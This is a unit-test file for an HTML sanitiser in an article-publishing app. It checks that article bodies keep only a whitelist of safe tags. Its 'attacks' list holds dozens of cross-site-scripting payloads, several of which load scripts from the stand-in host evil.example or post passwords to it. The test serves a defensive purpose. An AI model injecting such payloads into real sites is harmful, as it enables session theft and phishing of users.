import { DomainError } from '@qsl/contracts';
import { escapeHtml, paragraphsOf, readBody, sanitiseBody } from './article-body.js';

/** Ways in which a page has been made to run what a visitor wrote. */
const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>点我</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">点我</a>',
  '<a href="JaVaScRiPt&#58;alert(1)">点我</a>',
  '<a href="java\tscript:alert(1)">点我</a>',
  '<a href="\u0001javascript:alert(1)">点我</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>',
  '<a href="vbscript:msgbox(1)">点我</a>',
  '<a href="//evil.example">点我</a>',
  '<a href="/desk" onclick="alert(1)" style="position:fixed" target="_blank">点我</a>',
  '<p style="background:url(javascript:alert(1))" class="x" id="app">段落</p>',
  '<div onmouseover="alert(1)">段落</div>',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet>',
  '<form action="https://evil.example"><input name=password><button>登录</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example";</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template><textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<table background="javascript:alert(1)"><tr><td onclick=alert(1) background=x>格</td></tr></table>',
  '<th scope="javascript:alert(1)">头</th>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>',
  '<p>]]><script>alert(1)</script><![CDATA[</p>',
  `${'<blockquote>'.repeat(500)}深${'</blockquote>'.repeat(500)}`,
  '<a href="https://qsl.example/" rel="opener" target="_top">好</a>',
  '<a href=\'https://qsl.example/"onmouseover="alert(1)\'>好</a>',
];

/** The only form in which anything but text may be left. */
const tag =
  /<(?:\/?(?:h2|h3|p|ul|ol|li|blockquote|strong|em|table|caption|thead|tbody|tr|td|th)|br \/|th scope="(?:row|col|rowgroup|colgroup)"|a href="(?:https?:\/\/|mailto:)[^"<>]*" rel="noopener nofollow"|\/a)>/g;

describe('the body of an article', () => {
  it.each(attacks)('is harmless whatever was written: %s', (html) => {
    const { body } = sanitiseBody(html);
    expect(body.replace(tag, '')).not.toMatch(/[<>]/);
    expect(sanitiseBody(body).body).toBe(body);
  });

  it('keeps what an article is made of', () => {
    const html =
      '<h2>题</h2><h3>节</h3><p>文<strong>重</strong><em>强</em><br />行</p><ul><li>一</li></ul><ol><li>二</li></ol><blockquote>引</blockquote>' +
      '<table><caption>表</caption><thead><tr><th scope="col">列</th></tr></thead><tbody><tr><td>格</td></tr></tbody></table>' +
      '<p><a href="mailto:a@b.cn" rel="noopener nofollow">信</a></p>';
    expect(sanitiseBody(html).body).toBe(html);
  });

  it('takes what word processors write for what it means', () => {
    const pasted = '<h1>题</h1><div><b>重</b><span style="x"><i>强</i></span></div><h5>节</h5>';
    expect(sanitiseBody(pasted).body).toBe('<h2>题</h2><p><strong>重</strong><em>强</em></p><h3>节</h3>');
  });

  it('has a plain text with a line for each paragraph, and words that markup does not tear apart', () => {
    const { plainText } = sanitiseBody(
      '<h2>滤<strong>芯</strong></h2><p>甲 &lt; 乙 &amp;amp; 丙<br>丁</p><table><tr><td>一</td><td>二</td></tr></table>',
    );
    expect(plainText).toBe('滤芯\n甲 < 乙 &amp; 丙\n丁\n一 二');
  });

  it('says something, and not more than an article may', () => {
    expect(readBody('<p>今天的天气真的非常好。</p>').plainText).toBe('今天的天气真的非常好。');
    for (const html of ['<p>短</p>', '<p> </p>'.repeat(20), `<img src="${'x'.repeat(50)}">`, '字'.repeat(50_001)]) {
      expect(() => readBody(html)).toThrow(DomainError);
    }
  });
});

describe('plain text', () => {
  it('becomes paragraphs that say the same', () => {
    const text = '一 < 二 & "三"\r\n\r\n <script>四</script> ';
    expect(paragraphsOf(text)).toBe('<p>一 &lt; 二 &amp; &quot;三&quot;</p><p>&lt;script&gt;四&lt;/script&gt;</p>');
    expect(sanitiseBody(paragraphsOf(text)).plainText).toBe('一 < 二 & "三"\n<script>四</script>');
    expect(escapeHtml('好')).toBe('好');
  });
});
